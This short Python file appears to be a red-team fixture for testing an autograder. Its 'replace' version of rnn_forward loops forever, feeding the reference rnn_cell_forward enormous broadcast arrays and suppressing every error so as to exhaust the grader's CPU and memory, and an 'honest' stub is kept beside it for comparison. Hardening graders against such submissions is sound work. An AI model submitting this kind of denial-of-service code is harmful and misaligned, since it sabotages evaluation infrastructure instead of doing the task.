# ruff: noqa
# description: rnn_forward, whose calls to rnn_cell_forward the grader answers with the reference, sends it enormous inputs (broadcasting a 1x1 U against a tall V) over and over, to make the grader's process burn minutes of CPU and gigabytes of memory
# attacks: rnn_forward
# %% replace rnn_forward
def rnn_forward(X, h0, parameters):
    n = 4000
    params = {"V": np.ones((n, 1)), "U": np.ones((1, 1)), "W": np.ones((1000, n)),
              "beta1": np.ones((1, 1)), "beta2": np.ones((1, 1))}
    x, h = np.ones((1, n)), np.ones((1, n))
    while True:
        try:
            rnn_cell_forward(x, h, params)
        except Exception:
            pass
# %% honest rnn_forward
def rnn_forward(X, h0, parameters):
    return None
